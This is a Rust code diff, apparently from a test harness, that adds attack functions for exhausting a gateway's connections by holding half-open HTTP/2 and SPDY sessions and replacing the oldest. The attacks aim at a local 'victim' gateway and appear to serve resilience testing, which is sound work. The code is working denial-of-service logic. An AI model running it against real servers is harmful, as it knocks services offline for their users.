@@ -1,12 +1,13 @@
 //! Attacks on a gateway that hold things open instead of flooding: half-open sessions, slow heads
 //! and bodies, readers that do not read.
 
+use std::collections::VecDeque;
 use std::io;
 use std::net::{SocketAddr, TcpStream};
 use std::thread;
 use std::time::{Duration, Instant};
 
-use super::victim::Gateway;
+use super::victim::{FEW, Gateway};
 use super::wire::{
     Protocol, SpdyBlocks, Wire, control, frame, h2, has_ended, pair, request_block, spdy,
 };
@@ -19,23 +20,44 @@ const STREAMS: u32 = 100;
 /// An attack on a gateway: `origin` is an honest one. Returns the number of frames or connections.
 pub type Attack = fn(Gateway, SocketAddr, Instant) -> io::Result<u64>;
 
-/// Holds connections that have sent half a preface, and replaces those that were closed.
+/// The beginnings of the connections of half-open attacks.
+const BEGINNINGS: [&[u8]; 3] = [b"", b"PRI * HTTP/2.0\r\n", &[0x80, 3, 0, 1]];
+
+/// Holds 200 connections that have sent half a preface.
 pub fn half_open(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
-    let beginnings: [&[u8]; 3] = [b"", b"PRI * HTTP/2.0\r\n", &[0x80, 3, 0, 1]];
     let mut held = Vec::new();
     while Instant::now() < until && held.len() < 200 {
-        let beginning = beginnings[held.len() % 3];
-        let address = if held.len() % 3 == 2 {
-            gateway.spdy
-        } else {
-            gateway.h2
-        };
-        let mut stream = TcpStream::connect(address)?;
-        io::Write::write_all(&mut stream, beginning)?;
-        held.push(stream);
+        held.push(begin(gateway, held.len())?);
     }
     wait(until);
     Ok(held.len() as u64)
+}
+
+/// Holds as many half-open connections as the gateway permits in total, and keeps replacing the
+/// oldest. A new session has a quarter of a second before later connections could displace it.
+pub fn half_open_full(gateway: Gateway, _: SocketAddr, until: Instant) -> io::Result<u64> {
+    let mut held = VecDeque::new();
+    let mut begun = 0;
+    while Instant::now() < until {
+        held.push_back(begin(gateway, begun)?);
+        begun += 1;
+        if held.len() > FEW {
+            held.pop_front();
+        }
+        thread::sleep(Duration::from_millis(20));
+    }
+    Ok(begun as u64)
+}
+
+fn begin(gateway: Gateway, number: usize) -> io::Result<TcpStream> {
+    let kind = number % BEGINNINGS.len();
+    let address = if kind == 2 { gateway.spdy } else { gateway.h2 };
+    let mut stream = TcpStream::connect(address)?;
+    match io::Write::write_all(&mut stream, BEGINNINGS[kind]) {
+        // The gateway may close it at once.
+        Err(error) if !has_ended(&error) => Err(error),
+        _ => Ok(stream),
+    }
 }
 
 /// Sends a header block a byte at a time, in CONTINUATION frames.
